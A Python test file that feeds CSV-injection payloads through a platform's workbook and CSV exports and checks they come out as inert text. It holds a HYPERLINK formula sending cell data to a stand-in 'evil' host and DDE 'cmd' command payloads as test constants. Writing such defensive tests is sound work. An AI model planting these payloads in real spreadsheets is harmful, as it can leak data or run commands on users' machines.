"""No spreadsheet the platform writes holds a live formula (OWASP "CSV Injection").

A case titled ``=HYPERLINK("http://evil/"&A1,"x")`` (its liable party, notes, an event, a bank
project and a scenario hostile too) goes through every workbook and CSV export — the CLI's
``case export``, ``export``, ``case archive``, ``case assessment``, ``bank export``, ``appraisal
workbook``, ``monitor evaluate --out``, ``equivalence run --xlsx`` and the dashboard's register
download — on both store backends. Every workbook is read back with openpyxl: no cell is a
formula, and the hostile texts are there, as typed, as text; every CSV holds them with a
leading ``'`` and no cell a spreadsheet would evaluate.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl

from restoration.workbook import formula_like

from ..conftest import run_cli

TITLE = '=HYPERLINK("http://evil/"&A1,"x")'
PARTY = "=cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
PROJECT = "+HYPERLINK(\"http://evil/\")"
BOX = "POLYGON((108.20 23.20, 108.21 23.20, 108.21 23.21, 108.20 23.21, 108.20 23.20))"
TODAY = "2026-11-30"


def _hostile_store(store, tmp: Path, capsys) -> list[str]:
    data = ["--data", str(store.data_dir)]
    (tmp / "cases.csv").write_text(
        "case_id,title,region,case_class,stage,liable_party,claimant_agency,damage_amount_yuan,notes\n"
        f'GX-2026-901,"{TITLE.replace(chr(34), chr(34) * 2)}",石岭县,simple,filing,"{PARTY}",桂西市林业局,1000,"{NOTE}"\n',
        encoding="utf-8")
    (tmp / "bank.csv").write_text(
        "project_id,name,ecosystem_type,capacity,capacity_unit,unit_cost_yuan,status,trajectory,wkt\n"
        f'BP-F9,"{PROJECT.replace(chr(34), chr(34) * 2)}",wetland,5,ha,1000,approved,'
        '"{""levels"": [[0, 0.0], [8, 1.0]]}",' f'"{BOX}"\n', encoding="utf-8")
    for argv in (["import", "cases", tmp / "cases.csv"], ["import", "bank", tmp / "bank.csv", "--crs", "EPSG:4326"],
                 ["case", "event", "add", "GX-2026-901", "clue_registered", "2026-08-01",
                  "--details", json.dumps({"note": NOTE})]):
        code, out, err = run_cli(data + argv, capsys)
        assert code == 0, (argv, err)
    return data


def _scenario(tmp: Path) -> Path:
    ref = Path(__file__).resolve().parents[1] / "equivalence" / "reference_cases" / "p2_perpetual_half_loss.json"
    scenario = json.loads(ref.read_text(encoding="utf-8"))["scenario"]
    scenario.update(name=TITLE, notes=NOTE)
    path = tmp / "scenario.json"
    path.write_text(json.dumps(scenario, ensure_ascii=False), encoding="utf-8")
    return path


def _workbook_texts(data: bytes, where: str) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, (where, formulas[:5])
    return {c.value for c in cells if isinstance(c.value, str)}


def _csv_cells(data: bytes, where: str) -> set[str]:
    cells = {cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row}
    live = [c for c in cells if formula_like(c)]
    assert not live, (where, live[:5])
    return cells


def test_every_export_writes_hostile_text_as_text(store, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("RESTORATION_TODAY", TODAY)
    data = _hostile_store(store, tmp_path, capsys)
    out = tmp_path / "out"
    out.mkdir()
    books = {
        "case export": ["case", "export", "--out", out / "register.xlsx"],
        "export cases xlsx": ["export", "cases", "--out", out / "cases.xlsx"],
        "export events xlsx": ["export", "case_events", "--out", out / "events.xlsx"],
        "case assessment": ["case", "assessment", "--out", out / "assessment.xlsx"],
        "bank export": ["bank", "export", "--out", out / "bank.xlsx"],
        "appraisal workbook": ["appraisal", "workbook", "GX-2026-901", "--out", out / "appraisal.xlsx"],
        "monitor evaluate": ["monitor", "evaluate", "GX-2022-011", "--no-save", "--out", out / "evaluation.xlsx"],
        "equivalence run": ["equivalence", "run", _scenario(tmp_path), "--xlsx", out / "equivalence.xlsx"],
    }
    csvs = {
        "export cases csv": ["export", "cases", "--out", out / "cases.csv"],
        "export bank csv": ["export", "bank_projects", "--out", out / "bank.csv"],
        "monitor evaluate csv": ["monitor", "evaluate", "GX-2022-011", "--no-save", "--out", out / "evaluation.csv"],
        "case archive": ["case", "archive", "GX-2026-901", "--out", out / "archive.zip"],
    }
    for name, argv in {**books, **csvs}.items():
        code, _, err = run_cli(data + argv, capsys)
        assert code == 0, (name, err)

    texts = {name: _workbook_texts(Path(argv[-1]).read_bytes(), name) for name, argv in books.items()}
    for name in ("case export", "export cases xlsx", "appraisal workbook", "equivalence run"):
        assert TITLE in texts[name], name  # as typed, in a text cell
    assert PARTY in texts["case export"] and NOTE in texts["export cases xlsx"]
    assert PROJECT in texts["bank export"]

    cells = {name: _csv_cells(Path(argv[-1]).read_bytes(), name) for name, argv in csvs.items() if name != "case archive"}
    assert "'" + TITLE in cells["export cases csv"] and "'" + NOTE in cells["export cases csv"]
    assert "'" + PROJECT in cells["export bank csv"]
    with zipfile.ZipFile(out / "archive.zip") as z:
        tables = {n: _csv_cells(z.read(n), f"archive {n}") for n in z.namelist() if n.endswith(".csv")}
    assert "'" + TITLE in tables["index.csv"] and "events.csv" in tables


def test_the_dashboards_register_download_has_no_formula(store, tmp_path, capsys, monkeypatch):
    from datetime import date

    from dashboards.downloads import register_xlsx
    _hostile_store(store, tmp_path, capsys)
    texts = _workbook_texts(register_xlsx(store, date.fromisoformat(TODAY)), "register download")
    assert TITLE in texts and PARTY in texts
